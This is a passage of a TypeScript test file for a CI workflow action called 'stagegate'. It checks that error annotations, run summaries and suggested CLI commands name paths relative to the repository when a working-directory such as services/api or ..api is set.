    expect(classOf(chart, 's1i0')).toBe('completed');

    const failed = await runActionStep({ workspace: fanOutCheckout(), inputs: { workflow: FAN_OUT, 'run-id': 'f2', persist: 'none' }, env: { FAIL_ID: 'C-03' } });
    expect(failed.outputs['status']).toBe('STAGE_FAILED');
    const broken = mermaidOf(failed.summary);
    expect(broken).toMatch(/s1i0\["✗ assess [0-3]\/4"\]/);
    expect(classOf(broken, 's1i0')).toBe('failed');
  });
});

describe('with working-directory, the messages name paths as the repository does, as the annotations do', () => {
  it("a failed stage's message, annotation and summary say services/api/runs/…, never the working-directory-relative path", { tags: [CAMPAIGN] }, async () => {
    // The hello example under services/api of the checkout; the action runs there.
    const ws = makeWorkspace();
    cpSync(join(ws, 'workflows'), join(ws, 'services', 'api', 'workflows'), { recursive: true });
    writeFileSync(join(ws, 'services/api/workflows/examples/hello/scripts/review.sh'), '#!/usr/bin/env bash\necho "reviewer crashed" >&2\nexit 3\n');
    commitCheckout(ws);
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'm1', persist: 'none', 'working-directory': 'services/api' } });
    expect(r.outputs).toMatchObject({ status: 'STAGE_FAILED', 'state-path': 'services/api/runs/hello/m1/workflow_state.yaml' });
    const error = r.annotations.find((a) => a.level === 'error')!;
    expect(error.properties['file']).toBe(`services/api/${HELLO}`);
    expect(error.message).toMatch(/^STAGE_FAILED: step review exited with status 3 \(log: services\/api\/runs\/hello\/m1\/logs\/review\.v1\.a1\.log\)/);
    expect(error.message).toContain('Last 1 line of services/api/runs/hello/m1/logs/review.v1.a1.log:');
    expect(r.summary).toContain('(log: services/api/runs/hello/m1/logs/review.v1.a1.log)');
    // The CLI command to paste runs from the repository root too.
    expect(r.summary).toContain(`Locally, with the CLI: <code>stagegate -C services/api run ${HELLO} --run-id m1</code>`);
    // No path in the working-directory's terms is left (one not preceded by services/api/), but
    // the inputs as given (the run's details list them: artifact_root=runs/hello/m1).
    const before = r.summary.slice(0, r.summary.indexOf('<details>'));
    expect(`${error.message}\n${before}`).not.toMatch(/(^|[^/])runs\/hello\/m1/m);
  });

  it("a fix that quotes the step to run gives its working-directory and the workflow as the step names it, never the workflow's repository path", { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    cpSync(join(ws, 'workflows'), join(ws, 'services', 'api', 'workflows'), { recursive: true });
    commitCheckout(ws);
    const inputs = { workflow: HELLO, 'run-id': 'm2', persist: 'none', 'working-directory': 'services/api' };
    expect((await runActionStep({ workspace: ws, inputs: { ...inputs, 'stop-after-step': 'review' } })).outputs['status']).toBe('PARTIAL_RESUMABLE');
    // The workflow file edited since (a later job's checkout of a new commit would be the same).
    appendFileSync(join(ws, 'services/api', HELLO), '# edited\n');
    const r = await runActionStep({ workspace: ws, inputs });
    expect(r.outputs['status']).toBe('WORKFLOW_STATE_INTEGRITY_VIOLATION');
    const error = r.annotations.find((a) => a.level === 'error')!;
    const step = `command: run, working-directory: services/api, workflow: ${HELLO}, run-id: m2, allow-workflow-change: 'true'`;
    expect(error.message).toContain(step);
    expect(r.summary).toContain(step.replace(/'/g, '&#39;'));
    expect(`${error.message}\n${r.summary}`).not.toContain('workflow: services/api/');
    // The message still names the file as the repository does.
    expect(error.message).toContain(`the workflow file services/api/${HELLO} changed`);
  });

  it('a working-directory whose name starts with two dots (..api) is a folder of the checkout like any other: paths and the CLI command name it', { tags: [CAMPAIGN] }, async () => {
    const ws = makeWorkspace();
    cpSync(join(ws, 'workflows'), join(ws, '..api', 'workflows'), { recursive: true });
    writeFileSync(join(ws, '..api/workflows/examples/hello/scripts/review.sh'), '#!/usr/bin/env bash\necho "reviewer crashed" >&2\nexit 3\n');
    commitCheckout(ws);
    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'm1', persist: 'none', 'working-directory': '..api' } });
    expect(r.outputs).toMatchObject({ status: 'STAGE_FAILED', 'state-path': '..api/runs/hello/m1/workflow_state.yaml' });
    const error = r.annotations.find((a) => a.level === 'error')!;
    expect(error.message).toMatch(/^STAGE_FAILED: step review exited with status 3 \(log: \.\.api\/runs\/hello\/m1\/logs\/review\.v1\.a1\.log\)/);
    expect(r.summary).toContain(`Locally, with the CLI: <code>stagegate -C ..api run ${HELLO} --run-id m1</code>`);
  });
});
